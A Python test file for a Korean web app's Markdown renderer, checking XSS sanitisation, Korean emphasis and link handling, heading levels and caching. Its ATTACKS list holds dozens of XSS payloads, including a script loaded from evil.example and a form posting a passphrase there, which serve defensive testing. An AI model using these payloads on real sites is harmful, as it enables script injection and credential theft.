"""The one door for Markdown: nothing dangerous, Korean emphasis, Korean links."""

import html
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.core import richtext
from app.core.richtext import LONGEST_KEPT

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](//evil.example)",
    '[x](https://ok.example "onmouseover=alert(1)")',
    "[x](https://ok.example' onclick='alert(1))",
    "![x](javascript:alert(1))",
    "![x](https://tracker.example/pixel.gif)",
    "<javascript:alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=evil.swf></object>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action=https://evil.example><input name=passphrase></form>",
    "<style>body{display:none}</style>",
    '<p style="position:fixed;inset:0">x</p>',
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<details open ontoggle=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "# <img src=x onerror=alert(1)>",
    "| a | b |\n|---|---|\n| <script>x</script> | [y](javascript:1) |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "http://ok.example/<script>alert(1)</script>",
    'http://ok.example/"onmouseover=alert(1)',
]


class Seen(HTMLParser):
    """The tags and attributes of a piece of HTML, as a browser would find them."""

    def __init__(self, source):
        super().__init__()
        self.tags, self.attributes = set(), []
        self.feed(source)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += [(tag, name, html.unescape(value or "")) for name, value in attrs]


def assert_harmless(rendered):
    seen = Seen(rendered)
    assert seen.tags <= richtext.TAGS
    for tag, name, value in seen.attributes:
        assert name in richtext.ATTRIBUTES.get(tag, []), (tag, name)
        if name == "href":
            assert re.match(r"(https?:|mailto:|//|/|#|[^:]*$)", value, re.IGNORECASE), value
            bare = re.sub(r"[\x00-\x20]", "", value).lower()
            assert not bare.startswith(("javascript:", "vbscript:", "data:"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_renders_as_harmless_text(attack):
    assert_harmless(str(richtext.render(attack)))


@given(st.text())
def test_whatever_is_typed_renders_harmlessly(source):
    assert_harmless(str(richtext.render(source)))


PIECES = st.sampled_from([*ATTACKS, "**", "](", "\n\n", "> ", "`", "- ", "한글"])


@given(st.lists(PIECES, max_size=6))
def test_attacks_combined_render_harmlessly(parts):
    assert_harmless(str(richtext.render("".join(parts))))


@pytest.mark.parametrize(
    ("source", "piece"),
    [
        ("**강조(설명)**을 씁니다", "<strong>강조(설명)</strong>을"),
        ("**‘나풀나풀’**은", "<strong>‘나풀나풀’</strong>은"),
        ("**100%**가", "<strong>100%</strong>가"),
        ("이것이**(중요)**합니다", "이것이<strong>(중요)</strong>합니다"),
        ("**강조**를", "<strong>강조</strong>를"),
        ("*기울임!*도", "<em>기울임!</em>도"),
        ("~~지움(취소)~~은", "<s>지움(취소)</s>은"),
        ("2 * 3 * 4", "2 * 3 * 4"),
    ],
)
def test_emphasis_may_end_before_a_particle(source, piece):
    assert piece in richtext.render(source)


@pytest.mark.parametrize(
    ("source", "href", "after"),
    [
        ("https://example.kr에서 보세요", "https://example.kr", "에서"),
        ("https://example.kr/a/b를 보세요", "https://example.kr/a/b", "를"),
        ("www.example.kr입니다", "http://www.example.kr", "입니다"),
        ("(https://example.kr/a)", "https://example.kr/a", ")"),
    ],
)
def test_a_bare_address_ends_before_hangul(source, href, after):
    rendered = str(richtext.render(source))
    assert f'href="{href}"' in rendered
    assert f"</a>{after}" in rendered


def test_links_promise_nothing_and_headings_fit_below_the_pages_own():
    assert 'rel="nofollow noopener ugc"' in richtext.render("[글](https://example.kr)")
    assert "<h3>제목</h3>" in richtext.render("# 제목")
    levels = re.findall(r"<h(\d)>", richtext.render("# 가\n## 나\n### 다\n#### 라\n###### 마"))
    assert levels == ["3", "4", "5", "5", "5"]
    assert "<a" not in richtext.render("`https://example.kr`")
    assert "mailto" not in richtext.render("hong@example.kr")
    assert "<table>" in richtext.render("| 가 | 나 |\n|---|---|\n| 1 | 2 |")


def test_an_excerpt_has_words_and_no_marks():
    assert richtext.plain("## 제목\n\n**강조**와 [글](https://example.kr) <b>x</b> & 1 < 2") == (
        "제목 강조와 글 <b>x</b> & 1 < 2"
    )


def test_a_date_that_begins_a_line_is_no_list():
    for words in ("2020. 9. 7.(월)부터 모읍니다", "9. 7.(월)부터 모읍니다", "2021. 3월까지"):
        assert str(richtext.render(words)) == f"<p>{words}</p>\n"
    assert "<ol>" in richtext.render("1. 하나\n2. 둘")


def test_code_is_escaped_once_and_a_wall_of_cells_is_no_table():
    assert "<code>a &amp; b</code>" in str(richtext.render("`a & b`"))
    wall = "a|b\n-|-\n" + "x|y\n" * 700
    assert "<table>" not in str(richtext.render(wall))
    assert "<table>" in str(richtext.render("a|b\n-|-\nx|y"))


def test_what_is_drawn_is_kept_only_while_it_is_short():
    """Texts that only swell while they are drawn would otherwise fill a process."""
    short, long = ("가" * length for length in (LONGEST_KEPT, LONGEST_KEPT + 1))
    assert richtext.render(short) is richtext.render(short)
    assert richtext.render(long) == richtext.render(long)
    assert richtext.render(long) is not richtext.render(long)
